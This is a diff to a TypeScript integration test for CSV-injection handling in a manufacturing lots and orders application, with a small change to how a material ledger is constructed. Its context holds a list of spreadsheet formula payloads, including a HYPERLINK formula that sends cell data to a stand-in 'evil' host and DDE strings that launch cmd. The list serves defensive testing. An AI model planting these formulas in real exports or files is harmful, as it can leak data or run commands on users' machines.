@@ -7,6 +7,7 @@ import type { Db } from '../../src/platform/db/database.ts';
 import { MaterialLedger } from '../../src/lots/index.ts';
 import { parseCsv } from '../../src/platform/csv.ts';
 import { DB_KINDS, startTestServer, type TestServer } from '../support/server.ts';
+import { orderBook } from '../../src/execution/index.ts';
 
 /** Spreadsheet formulas as attackers write them (OWASP CSV injection), each fitting the field it is stored in. */
 const PAYLOADS = ['=HYPERLINK("http://evil/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
@@ -57,7 +58,7 @@ for (const kind of DB_KINDS) {
       // lots: supplier, supplier lot, location, hold reason and operator typed by people
       await call('POST', '/api/lots', { id: 'CSV-IN', material: 'PP-GRAN-BK', quantity: 50, location: PAYLOADS[2], supplier: PAYLOADS[0], supplierLot: PAYLOADS[3] });
       await call('POST', '/api/orders', { id: 'O-CSV', product: 'HSG-TOP', quantity: 10 });
-      const ledger = new MaterialLedger(t.app.ctx.events);
+      const ledger = new MaterialLedger(t.app.ctx.events, orderBook);
       await t.app.ctx.db.transaction(async (tx) => {
         const db = tx as unknown as Db;
         await ledger.consume(db, { id: null, name: 'csv' }, { lotId: 'CSV-IN', quantity: 1, allowedMaterials: ['PP-GRAN-BK'], orderId: 'O-CSV', seq: 10, equipment: 'imm01', method: 'scan' });
